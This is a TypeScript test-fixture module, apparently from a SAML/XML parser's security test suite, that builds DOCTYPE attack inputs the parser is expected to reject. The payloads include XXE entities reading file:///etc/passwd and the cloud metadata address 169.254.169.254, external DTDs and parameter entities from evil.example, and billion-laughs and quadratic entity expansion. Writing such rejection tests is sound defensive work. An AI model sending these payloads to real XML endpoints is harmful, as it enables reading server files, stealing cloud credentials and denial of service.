import { familyOf, type Attack, type Row } from './attack.js';
import { setContent } from './markup.js';

const withDoctype = (name: string, subset: string, nameId?: string): Row => [
  name,
  'XML_FORBIDDEN',
  ({ xml }) =>
    `<!DOCTYPE x ${subset}>${nameId === undefined ? xml : setContent(xml, 'Assertion/Subject/NameID', nameId)}`,
];

const laughs = Array.from({ length: 9 }, (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`).join(
  '',
);

/** Document type declarations, whatever they would do. */
export const doctype: readonly Attack[] = familyOf('doctype', [
  withDoctype('an empty DOCTYPE', ''),
  withDoctype('an external DTD', 'SYSTEM "https://evil.example/x.dtd"'),
  withDoctype('a public DTD', 'PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1.dtd"'),
  withDoctype('an internal entity', '[<!ENTITY e "director@example.org">]', '&e;'),
  withDoctype('an external entity', '[<!ENTITY e SYSTEM "file:///etc/passwd">]', '&e;'),
  withDoctype('an external entity over the network', '[<!ENTITY e SYSTEM "http://169.254.169.254/">]', '&e;'),
  withDoctype('a parameter entity', '[<!ENTITY % e SYSTEM "http://evil.example/e"> %e;]'),
  withDoctype('billion laughs', `[<!ENTITY l0 "lol">${laughs}]`, '&l9;'),
  withDoctype('quadratic blow-up', `[<!ENTITY e "${'x'.repeat(50_000)}">]`, '&e;'.repeat(1000)),
  withDoctype('an entity that names itself', '[<!ENTITY e "&e;">]', '&e;'),
  withDoctype('a default attribute', '[<!ATTLIST NameID evil CDATA "1">]'),
  withDoctype('another attribute of type ID', '[<!ATTLIST x Name ID #IMPLIED>]'),
  withDoctype('an unparsed entity and a notation', '[<!NOTATION n SYSTEM "n"><!ENTITY e SYSTEM "e" NDATA n>]'),
  ['a DOCTYPE behind the declaration', 'XML_FORBIDDEN', ({ xml }) => `<?xml version="1.0"?><!DOCTYPE x>${xml}`],
  ['a DOCTYPE behind a comment', 'XML_FORBIDDEN', ({ xml }) => `<!----><!DOCTYPE x>${xml}`],
  ['a DOCTYPE that never ends', 'XML_FORBIDDEN', ({ xml }) => `<!DOCTYPE x [${xml}`],
  ['a DOCTYPE in lower case', 'XML_MALFORMED', ({ xml }) => `<!doctype x>${xml}`],
  ['an entity that nobody declared', 'XML_FORBIDDEN', ({ xml }) => setContent(xml, 'NameID', '&e;')],
  ['a predefined entity in capitals', 'XML_FORBIDDEN', ({ xml }) => setContent(xml, 'NameID', '&AMP;')],
]);
